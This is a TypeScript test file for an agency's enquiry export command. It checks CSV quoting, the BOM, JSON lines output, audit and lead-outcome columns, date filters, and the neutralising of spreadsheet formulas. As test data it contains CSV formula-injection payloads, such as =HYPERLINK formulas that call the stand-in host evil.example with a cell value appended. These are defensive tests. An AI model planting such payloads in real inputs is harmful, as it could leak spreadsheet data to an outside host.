import { checkDeliveries } from '../../src/outbox/queue.js';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { startApp, validEnquiry, staffCommand } from '../helpers.js';
import { localDate } from '../../src/time/local-time.js';
import { auditByPublicId, finishAudit, queueAudit } from '../../src/audit/checks/audits.js';

/** Runs `npm run export -- ...` the way staff do, against the server's live database. */
async function exportCli(dbPath: string, args: string[]) {
  return staffCommand('export', args, { DATABASE_PATH: dbPath });
}

const tricky = [
  validEnquiry({ name: 'Smith, Jones & Co', goals: 'Say "hello",\nthen\r\ngoodbye' }),
  validEnquiry({ name: 'Zoë Ångström 李小龍', email: 'zoe@example.com', goals: 'Ünïcödé 🚀 everywhere' }),
  validEnquiry({ name: '=HYPERLINK("http://evil.example","click")', phone: '+61 400 000 000', goals: '@SUM(A1:A9)' }),
  validEnquiry({ name: '-2+3', goals: 'plain' }),
];

test('CSV export round-trips commas, quotes, newlines and non-ASCII, with a BOM, and neutralises formulas', async () => {
  const server = await startApp({ RATE_LIMIT_MAX: '100' });
  try {
    for (const e of tricky)
      assert.is((await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: e })).statusCode, 201);
    await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ company: 'spam bot' }) });

    const out = join(server.dir, 'export.csv');
    const { stderr } = await exportCli(server.config.DATABASE_PATH, ['--format', 'csv', '--out', out]);
    assert.match(stderr, 'Wrote 4 enquiries');
    const bytes = readFileSync(out);
    assert.equal([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM for Excel');
    const text = bytes.toString('utf8');
    assert.ok(text.includes('\r\n'), 'CRLF record separators (RFC 4180)');
    const rows = parseCsv(text, { bom: true, columns: true }) as Record<string, string>[];
    assert.is(rows.length, 4, 'spam left out by default');
    assert.is(rows[0]!.name, 'Smith, Jones & Co');
    assert.is(rows[0]!.goals, 'Say "hello",\nthen\r\ngoodbye');
    assert.is(rows[1]!.name, 'Zoë Ångström 李小龍');
    assert.is(rows[1]!.goals, 'Ünïcödé 🚀 everywhere');
    assert.is(rows[2]!.name, `'=HYPERLINK("http://evil.example","click")`, 'formula neutralised');
    assert.is(rows[2]!.phone, `'+61 400 000 000`);
    assert.is(rows[2]!.goals, `'@SUM(A1:A9)`);
    assert.is(rows[3]!.name, `'-2+3`);
    assert.ok(Object.keys(rows[0]!).includes('created_at'));

    const withSpam = await exportCli(server.config.DATABASE_PATH, ['--include-spam']);
    assert.is((parseCsv(withSpam.stdout, { bom: true, columns: true }) as unknown[]).length, 5);
  } finally {
    await server.close();
  }
});

test('a formula in any text a stranger controls is neutralised in every export for spreadsheets, and exact in JSON', async () => {
  const server = await startApp({ RATE_LIMIT_MAX: '100' });
  try {
    // Each leading character a spreadsheet runs, in every field a visitor can fill, the browser's
    // record of the visit (both touches), the user agent and the check's summary.
    const formula = (lead: string, field: string) => `${lead}HYPERLINK("http://evil.example/?${field}="&A1,"Click")`;
    const tags = {
      utm_source: formula('=', 'src'),
      utm_medium: formula('+', 'med'),
      utm_campaign: formula('-', 'camp'),
      utm_term: formula('@', 'term'),
      utm_content: formula('=', 'content'),
      utm_id: formula('+', 'id'),
    };
    const landing = { at: Date.now() - 60_000, path: '/strategy/google-ads', params: tags };
    const posted = await server.app.inject({
      method: 'POST',
      url: '/api/seo-audit-request',
      headers: { 'user-agent': formula('@', 'ua') },
      payload: validEnquiry({
        name: formula('=', 'name'),
        email: '=1+1@example.com.au',
        phone: '+61 400 000 000',
        goals: formula('-', 'goals'),
        attribution: { first: landing, last: landing, pages: 2 },
      }),
    });
    assert.is(posted.statusCode, 201, posted.body);
    const id = posted.json().id as number;
    const check = auditByPublicId(server.app.db, queueAudit(server.app.db, id, 'https://janes-bakery.com.au/'))!;
    finishAudit(
      server.app.db,
      check,
      { status: 'failed', score: null, findings: [], summary: formula('=', 'summary') },
      checkDeliveries([]),
    );

    const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
    const [row] = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    assert.equal(
      Object.entries(row!).filter(([, cell]) => isFormula(cell)),
      [],
      'no cell of the staff CSV runs',
    );
    for (const [column, sent] of [
      ['name', formula('=', 'name')],
      ['email', '=1+1@example.com.au'],
      ['phone', '+61 400 000 000'],
      ['goals', formula('-', 'goals')],
      ['user_agent', formula('@', 'ua')],
      ['audit_summary', formula('=', 'summary')],
      ['first_campaign', tags.utm_campaign],
      ['last_term', tags.utm_term],
      ['last_content', tags.utm_content],
      ['first_utm_id', tags.utm_id],
    ] as const) {
      assert.is(row![column], `'${sent}`, column);
    }
    assert.is(row!.first_source, `'${tags.utm_source.toLowerCase()}`, 'sources are named in lower case');

    const report = await staffCommand('report', ['--format', 'csv'], { DATABASE_PATH: server.config.DATABASE_PATH });
    const reportCells = (parseCsv(report.stdout, { bom: true, relax_column_count: true }) as string[][]).flat();
    assert.equal(reportCells.filter(isFormula), [], "no cell of the report's CSV runs");
    assert.ok(reportCells.includes(`'${tags.utm_campaign}`), 'the campaign is in the report, neutralised');

    // JSON lines are for programs: values as stored (see src/enquiries/export.ts).
    const [line] = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.equal(
      [line.name, line.goals, line.first_campaign, line.audit_summary],
      [formula('=', 'name'), formula('-', 'goals'), tags.utm_campaign, formula('=', 'summary')],
    );
  } finally {
    await server.close();
  }
});

test('the export gives each site check its pages, problems and improvements, right after audit_summary', async () => {
  const server = await startApp({ RATE_LIMIT_MAX: '100' });
  try {
    const ids: number[] = [];
    for (const email of ['done@example.com', 'failed@example.com', 'none@example.com'])
      ids.push((await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email }) })).json().id);
    // Checks are off in tests: these are recorded as the worker would record them.
    const finding = (id: string, severity: 'problem' | 'improvement' | 'passed', total?: number) => ({
      id,
      severity,
      message: `${id}.`,
      why: 'Why.',
      total,
    });
    const done = auditByPublicId(server.app.db, queueAudit(server.app.db, ids[0]!, 'https://janes-bakery.com.au/'))!;
    finishAudit(
      server.app.db,
      done,
      {
        status: 'done',
        score: 48,
        summary: 'Score 48/100 across 12 pages: 2 problems, 3 to improve (https, broken-links)',
        pages: 12,
        findings: [
          finding('https', 'problem'),
          finding('broken-links', 'problem', 3),
          finding('title', 'improvement'),
          finding('thin-content', 'improvement', 5),
          finding('lang', 'improvement'),
          finding('ttfb', 'passed'),
        ],
      },
      checkDeliveries([]),
    );
    const failed = auditByPublicId(server.app.db, queueAudit(server.app.db, ids[1]!, 'https://gone.example/'))!;
    finishAudit(
      server.app.db,
      failed,
      { status: 'failed', score: null, findings: [], summary: 'We could not find gone.example.' },
      checkDeliveries([]),
    );

    const csv = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    const columns = Object.keys(csv[0]!);
    const at = columns.indexOf('audit_summary');
    assert.equal(columns.slice(at, at + 4), ['audit_summary', 'audit_pages', 'audit_problems', 'audit_improvements']);
    const audits = (row: Record<string, string>) => [
      row.audit_status,
      row.audit_score,
      row.audit_pages,
      row.audit_problems,
      row.audit_improvements,
    ];
    assert.equal(
      csv.map(audits),
      [
        ['done', '48', '12', '2', '3'],
        ['failed', '', '0', '', ''],
        ['', '', '', '', ''],
      ],
      'counts once a check is done; nothing for an enquiry without one',
    );

    const json = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.equal([json[0].audit_pages, json[0].audit_problems, json[0].audit_improvements], [12, 2, 3], 'numbers in JSON');
    assert.equal([json[2].audit_pages, json[2].audit_problems, json[2].audit_improvements], [null, null, null]);
  } finally {
    await server.close();
  }
});

test('the export shows what became of each lead: outcome, when, the value won and why it was lost', async () => {
  const server = await startApp({ RATE_LIMIT_MAX: '100' });
  try {
    for (const email of ['new@owner.example', 'won@owner.example', 'lost@owner.example', 'back@owner.example'])
      assert.is(
        (await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email }) })).statusCode,
        201,
      );
    // As staff record them: the staff command, against the live database.
    const lead = (args: string[]) => staffCommand('lead', args, { DATABASE_PATH: server.config.DATABASE_PATH });
    await lead(['2', '--won', '4,800']);
    await lead(['3', '--lost', 'Went with a cheaper agency']);
    await lead(['4', '--lost', 'No budget this year']);
    await lead(['4', '--contacted']);
    const out = join(server.dir, 'outcomes.csv');
    await exportCli(server.config.DATABASE_PATH, ['--format', 'csv', '--out', out]);
    const rows = parseCsv(readFileSync(out, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    const header = Object.keys(rows[0]!);
    assert.equal(
      header.slice(header.indexOf('audit_report_views') + 1, header.indexOf('audit_report_views') + 5),
      ['outcome', 'outcome_at', 'value_aud', 'lost_reason'],
      'right after the site check',
    );
    const shown = rows.map((r) => [r.email, r.outcome, Boolean(r.outcome_at), r.value_aud, r.lost_reason]);
    assert.equal(shown, [
      ['new@owner.example', 'new', false, '', ''],
      ['won@owner.example', 'won', true, '4800', ''],
      ['lost@owner.example', 'lost', true, '', 'Went with a cheaper agency'],
      ['back@owner.example', 'contacted', true, '', ''],
    ]);
    const { stdout } = await exportCli(server.config.DATABASE_PATH, ['--format', 'json']);
    const json = stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.equal([json[1]?.outcome, json[1]?.value_aud, json[0]?.value_aud], ['won', 4800, null], 'numbers as numbers');
  } finally {
    await server.close();
  }
});

test('JSON lines export and date filters', async () => {
  const server = await startApp();
  try {
    await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry() });
    // Dates are days in the agency's time zone.
    const today = localDate(new Date().toISOString(), server.config.TIME_ZONE);
    const { stdout, stderr } = await exportCli(server.config.DATABASE_PATH, ['--format', 'json', '--since', today, '--until', today]);
    assert.match(stderr, 'Wrote 1 enquiry');
    const lines = stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.is(lines.length, 1);
    assert.is(lines[0].email, 'jane@example.com.au');
    const none = await exportCli(server.config.DATABASE_PATH, ['--format', 'json', '--until', '2020-01-01']);
    assert.match(none.stderr, 'Wrote 0 enquiries');
    try {
      await exportCli(server.config.DATABASE_PATH, ['--format', 'xml']);
      assert.unreachable('bad format accepted');
    } catch (err) {
      assert.match(String((err as { stderr: string }).stderr), '--format must be csv, json or google-ads');
    }
  } finally {
    await server.close();
  }
});

test.run();
